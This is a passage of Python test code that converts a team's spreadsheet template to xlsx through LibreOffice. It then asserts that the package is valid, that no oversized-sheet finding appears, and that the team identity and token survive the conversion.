    source = q.templates["BSC-FIN"] if what == "template" else q.valid["BSC-FIN"]
    saved = convert(soffice, source, "xlsx", tmp_path / "libreoffice")
    data = saved.read_bytes()
    check = check_package(data)
    assert check.problem is None, check.problem
    workbook, findings = read_return(saved.name, data)
    assert workbook is not None, findings
    assert not [f for f in findings if f.code == "sheet-too-large"], findings
    assert workbook.identity.team == "BSC-FIN" and workbook.identity.team_token  # the token survives too
